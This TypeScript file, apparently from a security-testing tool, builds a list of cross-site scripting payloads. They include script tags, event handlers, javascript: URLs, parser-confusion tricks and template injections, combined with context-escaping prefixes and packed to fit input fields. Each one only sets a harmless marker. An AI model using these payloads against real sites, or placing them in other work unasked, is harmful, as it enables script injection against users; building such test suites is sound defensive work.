/** What every payload tries to do: leave a mark on the window of the page. */
const act = 'top.executed=1'

/** Known ways to make a browser run a script from text: as elements, handlers, addresses, styles, and by odd parsing. */
const ways = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script type=module>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<img src=x:x onerror=\n${act}\n>`,
  `<image/src/onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set onbegin=${act} attributeName=x to=1>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x">`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${act}">x</a></math>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<button popovertarget=p onclick=${act}>x</button>`,
  `<div tabindex=0 autofocus onfocus=${act}>x</div>`,
  `<p onpointerenter=${act} style="position:fixed;inset:0">x</p>`,
  `<p style="animation:spin 1s" onanimationstart=${act}>x</p>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe onload=${act}></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}">x</a>`,
  `<a href="java&#x09;script:${act}">x</a>`,
  `<a href="&#1;javascript:${act}">x</a>`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<link rel=stylesheet href="javascript:${act}">`,
  `<link rel=import href="data:text/html,<script>${act}</script>">`,
  `<meta http-equiv=refresh content="9;url=javascript:${act}">`,
  `<base href="javascript:${act}//">`,
  `<style>@import "javascript:${act}";</style>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<svg></p><style><a title="</style><img src onerror=${act}>">`,
  `<div id="1<!--"><img src=x onerror=${act}>-->`,
  `{{constructor.constructor('${act}')()}}`,
  '${' + act + '}',
  `';${act}//`,
  `\\u003cimg src=x onerror=${act}\\u003e`,
  `&lt;img src=x onerror=${act}&gt;`,
  `%3Cimg src=x onerror=${act}%3E`,
]

/** Ways out of the place in which a text may stand: an attribute, another element, a script, a comment. */
const exits = ['', '">', `'>`, '</script></title></textarea></style>', '-->', ']]>']

export const payloads: readonly string[] = exits
  .flatMap((exit) => ways.map((way) => exit + way))
  .slice(0, 250)

/** The payloads in as few texts as possible, none longer than a field takes; those that are longer alone are left out. */
export function textsOf(longest: number): string[] {
  const texts: string[] = []
  for (const payload of payloads
    .map((one) => one.replaceAll('\n', ' '))
    .filter(({ length }) => length <= longest)) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + payload.length < longest)
      texts[texts.length - 1] = `${last} ${payload}`
    else texts.push(payload)
  }
  return texts
}
